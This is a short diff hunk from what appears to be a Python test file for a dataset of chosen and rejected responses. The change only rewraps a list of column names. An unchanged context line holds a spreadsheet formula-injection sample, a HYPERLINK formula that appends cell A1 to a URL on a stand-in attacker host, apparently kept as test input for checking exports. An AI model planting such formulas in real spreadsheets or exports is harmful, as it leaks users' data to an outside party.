@@ -24,8 +24,8 @@ from tests.runs import run
 
 Build = Callable[..., Recipe]
 COLUMNS = [
-    "prompt", "chosen", "rejected", "chosen_score", "rejected_score", "score_margin", "chosen_member", "rejected_member",
-    "source", "prompt_id",
+    "prompt", "chosen", "rejected", "chosen_score", "rejected_score", "score_margin", "chosen_member",
+    "rejected_member", "source", "prompt_id",
 ]  # fmt: skip
 FORMULAS = [
     '=HYPERLINK("https://evil.example?x="&A1, "look")',
